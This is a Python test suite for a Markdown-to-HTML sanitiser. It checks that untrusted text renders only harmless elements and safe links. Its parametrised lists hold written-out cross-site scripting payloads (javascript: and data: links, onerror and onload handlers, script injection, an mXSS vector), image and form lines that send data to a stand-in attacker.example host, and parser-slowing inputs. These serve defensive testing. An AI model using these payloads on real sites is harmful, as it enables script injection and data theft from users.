"""Markdown from anyone, as HTML that can do nothing: each test names the attack that it is about."""

import re
from functools import partial
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from memoryhub.web.markup import MOST_CHARACTERS, to_html
from tests.growth import assert_at_most

ALLOWED = {
    *("p", "br", "hr", "h3", "h4", "h5", "h6", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li"),
    *("a", "span", "table", "thead", "tbody", "tr", "th", "td"),
}


class Reader(HTMLParser):
    """What a browser would make of the HTML: elements with their attributes, and the text."""

    def __init__(self, html):
        super().__init__()
        self.elements, self.text = [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def links(self):
        return [attrs["href"] for tag, attrs in self.elements if tag == "a"]


def assert_harmless(html):
    for tag, attrs in Reader(html).elements:
        assert tag in ALLOWED
        assert set(attrs) <= {"a": {"href", "rel", "target"}, "span": {"class"}, "ol": {"start"}}.get(tag, set())
        if tag == "a":
            assert re.match(r"(?:https?://[^/@%]+|mailto:)", attrs["href"], re.IGNORECASE)
            assert attrs["rel"] == "noopener noreferrer nofollow"
            assert attrs["target"] == "_blank"


SCRIPT_LINKS = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a](file:///etc/hostname)",
    "[a](//attacker.example)",
    "[a](/settings/)",
    "[a](\\\\attacker.example)",
    "[a](https:attacker.example)",
    "[a](http:///attacker.example)",
    "[a](https://[::1)",
    "[a](https://good.example@attacker.example/)",
    "[a](https://good.example%2f@attacker.example/)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a][b]\n\n[b]: <javascript:alert(1)>",
    "[a](<java\nscript:alert(1)>)",
    "[a](\x01javascript:alert(1))",
]


@pytest.mark.parametrize("text", SCRIPT_LINKS)
def test_only_followable_addresses_become_links(text):
    html = to_html(text)
    assert Reader(html).links() == []
    assert_harmless(html)


@pytest.mark.parametrize(
    ("text", "address", "host"),
    [
        ("[here](https://example.test/ok)", "https://example.test/ok", "example.test"),
        ("[here](HTTP://Example.test)", "HTTP://Example.test", "example.test"),
        ("[bank.example](https://attacker.example/x)", "https://attacker.example/x", "attacker.example"),
        ("[mail](mailto:ola@example.test)", "mailto:ola@example.test", "ola@example.test"),
        ("[x](https://пример.испытание/)", "https://xn--e1afmkfd.xn--80akhbyknj4f/", "xn--e1afmkfd.xn--80akhbyknj4f"),
    ],
)
def test_a_link_opens_apart_and_says_where_it_leads(text, address, host):
    html = to_html(text)
    assert Reader(html).links() == [address]
    assert f'<span class="link-host">{host}</span>' in html
    assert_harmless(html)


def test_a_link_that_is_its_own_address_is_not_repeated():
    assert "link-host" not in to_html("<https://example.test/guide>")


REMOTE_LOADS = [
    "![a](https://attacker.example/p.png?q=secret)",
    "![a](//attacker.example/p.png)",
    "![a][b]\n\n[b]: https://attacker.example/p.png",
    "[![a](https://attacker.example/p.png)](https://example.test)",
    "<img src=https://attacker.example/c>",
    "<video poster=https://attacker.example/d></video>",
    '<div style="background:url(https://attacker.example/e)">x</div>',
    "<link rel=prefetch href=https://attacker.example/f>",
    "<svg><image href='https://attacker.example/g'/></svg>",
    '<iframe src="https://attacker.example"></iframe>',
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    '<object data="https://attacker.example/h"></object><embed src="https://attacker.example/i">',
]


@pytest.mark.parametrize("text", REMOTE_LOADS)
def test_nothing_is_loaded_from_elsewhere(text):
    html = to_html(text)
    assert not re.search(r"<(?:img|video|audio|source|link|iframe|object|embed|svg|image|style|div)\b", html)
    assert_harmless(html)


def test_an_image_is_said_in_words_with_its_host():
    assert "a chart (external image not loaded: attacker.example)" in to_html(
        "![a chart](https://attacker.example/p.png)"
    )
    assert "nicht geladen: i.example" in to_html("![](https://i.example/p.png)", image_words="nicht geladen: %s")


RAW_HTML = [
    "<script>alert(1)</script>",
    "<b onmouseover=alert(1)>x</b>",
    "<a href='javascript:alert(1)'>x</a>",
    '"><script>alert(1)</script>',
    "`<img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '``` " onload="alert(1)\ncode\n```',
    "[x](https://example.test \"' onclick='alert(1)\")",
    '![" onerror="alert(1)](https://i.example/p.png)',
    "<!-- --><script>",
    "<style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<form action=https://attacker.example><input name=q>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("text", RAW_HTML)
def test_raw_html_stays_text(text):
    html = to_html(text)
    assert "<script" not in html
    assert "<style" not in html
    assert_harmless(html)


def test_ordinary_markdown_is_rendered():
    html = to_html(
        "# Title\n\nSome *soft* and **strong** `code`\n\n- one\n- two\n\n3. three\n\n|a|b|\n|-|-|\n|1|2|\n\n> said\n"
    )
    for part in ("<h3>Title</h3>", "<em>soft</em>", "<strong>", "<code>code</code>", "<li>one</li>", '<ol start="3">'):
        assert part in html
    assert "<td>1</td>" in html
    assert "<blockquote>" in html


HEAVY = [
    *("![", "> ", "`a ", "[a](", "**_", "[", "*a ", "_a_ ", "- ", "<", "&", "a\n", "|a", "\\", "[a][b] ", "<a@b "),
    *("# ", "]: x\n", "[x]: y\n", "*a_ ", "![](", "```a", "<http://", "a**b", "[![", "***", "> [", "a|b\n-|-\n"),
    *("| a | b |\n|---|---|\n", "\"<'", "[a](https://x.test) ", "`", "a  \n", "((", "&amp;", "1. ", "\t-", "[x"),
    *("- a\n", "\x00", "~~"),
]
HONEST = (
    "## Heading\n\n*Soft* and **loud** words, `code`, a [link](https://example.org/a), more.\n\n- one\n- two\n\n" * 50
)


@pytest.mark.parametrize("piece", HEAVY)
@pytest.mark.parametrize("size", [MOST_CHARACTERS, 65_536])
def test_text_made_to_take_long_takes_hardly_longer_than_honest_text(piece, size):
    text = (piece * size)[:size]
    assert_at_most(10, partial(to_html, text), partial(to_html, HONEST))  # usually 2; unbounded, hundreds
    assert_harmless(to_html(text))


def test_a_long_text_is_shown_as_typed():
    html = to_html("*" + "x" * MOST_CHARACTERS + "* <b>")
    assert html.startswith("<pre>*xx")
    assert html.endswith("* &lt;b&gt;</pre>")


def test_a_longer_text_is_rendered_on_request():
    assert "<em>" in to_html("*soft* " + "word " * 5_000, most=65_536)


markdown = st.text(alphabet="ab<>[]()!*_`#|-\n :/.\"'&;\\\u200bjavscriptht", max_size=120)


@given(markdown)
def test_no_text_makes_anything_else_than_the_allowed_elements(text):
    assert_harmless(to_html(text))


@given(st.text(max_size=80))
def test_any_text_can_be_rendered(text):
    assert_harmless(to_html(text))
